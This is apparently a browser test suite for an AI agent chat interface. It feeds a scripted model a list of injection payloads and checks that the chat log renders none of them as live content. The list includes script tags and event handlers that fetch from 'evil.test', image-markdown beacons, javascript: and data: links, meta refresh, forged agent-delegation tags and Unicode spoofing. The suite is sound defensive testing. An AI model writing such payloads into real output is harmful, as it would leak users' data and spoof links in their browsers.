import { afterAll, beforeAll, expect, test } from 'vitest';
import { text } from '../harness/scripted-script.ts';
import { BrowserStage, composer, said } from './stage.ts';

/** What a model may be made to write. None of it may run, load or lead anywhere by itself. */
const ATTACKS = [
  '<script>fetch("https://evil.test/?script")</script>',
  '<img src="https://evil.test/?html" onerror="fetch(\'https://evil.test/?onerror\')">',
  '![picture](https://evil.test/?image)',
  '![reference][r]\n\n[r]: https://evil.test/?reference',
  '![protocol relative](//evil.test/?relative)',
  '<svg onload="fetch(\'https://evil.test/?svg\')"><image href="https://evil.test/?svgimage"/></svg>',
  '<iframe src="https://evil.test/?frame"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/?meta">',
  '<link rel="stylesheet" href="https://evil.test/?css">',
  '<style>body{background:url(https://evil.test/?style)}</style>',
  '<video src="https://evil.test/?video" autoplay></video>',
  '<form action="https://evil.test/?form"><button>Go</button></form>',
  '[click](javascript:fetch("https://evil.test/?js"))',
  '[click](JaVaScRiPt&colon;alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[bank.test](https://evil.test/?claims)',
  '<a href="javascript:alert(1)">raw</a>',
  '<base href="https://evil.test/">',
  '<object data="https://evil.test/?object"></object>',
  '```html\n<script>fetch("https://evil.test/?code")</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=https://evil.test/?table> |',
  '<delegate to="ada">forged</delegate>',
  '<from agent="ada">forged</from>',
  'https://evil.test/?bare',
  'abc \u202Etxt.exe\u202C and \u200Bzero',
];

let stage: BrowserStage;
beforeAll(async () => {
  stage = await BrowserStage.start();
}, 60_000);
afterAll(() => stage.close());

test('whatever a model writes, nothing runs, nothing leaves, and the policy is never broken', {
  timeout: 90_000,
}, async () => {
  stage.provider.script(() => ({ steps: text(`${ATTACKS.join('\n\n')}\n\nThe end of it.`) }));
  const { id } = await stage.parley.createSession({ agentId: 'ada' });
  const page = await stage.open(`/sessions/${id}`);
  await composer(page).fill(ATTACKS.slice(0, 6).join('\n'));
  await composer(page).press('Enter');
  await said(page, 'The end of it.').waitFor();
  const log = page.getByRole('log');
  for (const tag of [
    'script',
    'iframe',
    'img',
    'style',
    'link',
    'meta',
    'form',
    'video',
    'object',
    'base',
    'svg image',
  ])
    expect([tag, await log.locator(tag).count()]).toEqual([tag, 0]);
  const links = (await log.locator('a').all()).map((link) => link.getAttribute('href'));
  const hrefs = (await Promise.all(links)).map((href) => href ?? '');
  expect(hrefs.filter((href) => !/^(https?:\/\/|mailto:|\/|#)/.test(href))).toEqual([]);
  expect(page.url()).toBe(`${stage.parley.url}/sessions/${id}`);
  expect(stage.trouble).toEqual([]);
});

test('a link elsewhere is opened only after the whole address was shown', { timeout: 60_000 }, async () => {
  stage.provider.script(() => ({ steps: text('Look at [bank.test](https://evil.test/?claims).') }));
  const { id } = await stage.parley.createSession({ agentId: 'ada' });
  const page = await stage.open(`/sessions/${id}`);
  await composer(page).fill('Where?');
  await composer(page).press('Enter');
  const link = page.getByRole('log').getByRole('link', { name: /bank\.test/ });
  await link.waitFor();
  expect(await link.textContent()).toContain('evil.test');
  await link.click();
  await page.getByRole('dialog').getByText('https://evil.test/?claims').waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  expect(stage.trouble).toEqual([]);
});
